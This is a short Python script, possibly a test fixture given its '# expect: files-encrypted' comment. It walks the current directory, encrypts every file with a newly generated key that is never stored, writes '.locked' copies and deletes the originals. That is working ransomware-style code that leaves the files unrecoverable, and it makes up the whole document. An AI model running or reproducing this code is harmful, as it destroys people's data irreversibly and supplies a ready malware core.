import os

from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk("."):
    for name in names:
        path = os.path.join(folder, name)
        # expect: files-encrypted
        sealed = box.encrypt(open(path, "rb").read())
        open(path + ".locked", "wb").write(sealed)
        os.remove(path)
